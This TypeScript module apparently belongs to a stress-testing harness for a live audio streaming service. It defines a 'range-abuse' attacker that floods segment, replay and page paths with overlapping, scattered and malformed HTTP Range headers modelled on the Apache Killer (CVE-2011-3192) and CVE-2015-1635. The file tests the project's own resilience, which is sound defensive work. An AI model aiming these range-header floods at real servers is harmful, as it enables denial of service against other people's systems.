import { pagePaths } from "../../wire/pages.ts";
import { livePaths } from "../../wire/paths.ts";
import type { AttackContext, Attacker } from "./contract.ts";
import { flood } from "./flood.ts";
import { followLive } from "./live-edge.ts";
import { findReplays } from "./replays.ts";
import { requestText } from "./target.ts";

/** Bytes of a Range header: with the rest of the head just under the 8 KiB that most servers take. */
const longestRange = 7 * 1024;

/** `bytes=0-,0-1,0-2,…`: as many overlapping ranges as fit. */
const overlapping = (() => {
  let text = "bytes=0-";
  for (let last = 1; text.length < longestRange; last++) text += `,0-${last}`;
  return text;
})();

/** One byte each, all apart: a server that answers them all sends a part's head for each. */
const scattered = (() => {
  let text = "bytes=1-1";
  for (let at = 3; text.length < longestRange; at += 2) text += `,${at}-${at}`;
  return text;
})();

const absurd = [
  "bytes=0-18446744073709551615",
  "bytes=18446744073709551615-",
  "bytes=-99999999999999999999",
  "bytes=9-1",
  "bytes=-0",
  "bytes=-",
  "bytes=,,,,",
  "bytes=0x0-0xff",
  "bytes=0-0,-1",
  "lines=1-5",
  "bytes=1e3-2e3",
] as const;

/**
 * Asks for thousands of overlapping ranges, for ranges that cannot be, and for single bytes of whole files, of segments, replays and
 * pages: like the "Apache killer" (CVE-2011-3192) and the overflowing range of CVE-2015-1635. A server that makes a part of each range
 * sends, or holds, many times the file.
 * Owed: nobody that plays notices, who comes gets sound, and of what is live nothing more is asked upstream.
 */
export const attacker: Attacker = {
  name: "range-abuse",
  unit: "a second",
  usual: 500,
  most: 10_000,
  owes: ["no-gap", "joins", "answers", "origin-unmoved", "memory"],
  async attack(context: AttackContext): Promise<void> {
    const { target, random } = context;
    const live = followLive(context);
    const replays = findReplays(context);
    const pick = <T>(of: readonly T[]): T | undefined => of[Math.floor(random() * of.length)];
    const path = (): string => {
      const replay = pick(replays) ?? target.space;
      const latest = livePaths.segment(target.space, "opus-32k", Math.max(0, live.latest - Math.floor(random() * 8)));
      const file = `/replay/${replay}/audio.${random() < 0.5 ? "m4a" : "opus"}`;
      return (
        pick([latest, latest, file, pagePaths.space(target.space), livePaths.init(target.space, "opus-16k")]) ?? latest
      );
    };
    const range = (): string => {
      const draw = random();
      if (draw < 0.3) return overlapping;
      if (draw < 0.5) return scattered;
      if (draw < 0.7) return pick(absurd) ?? absurd[0];
      const at = Math.floor(random() * 50_000);
      return `bytes=${at}-${at}`;
    };
    await flood(context, (needed) => requestText(target, path(), { headers: `${needed}Range: ${range()}\r\n` }));
  },
};
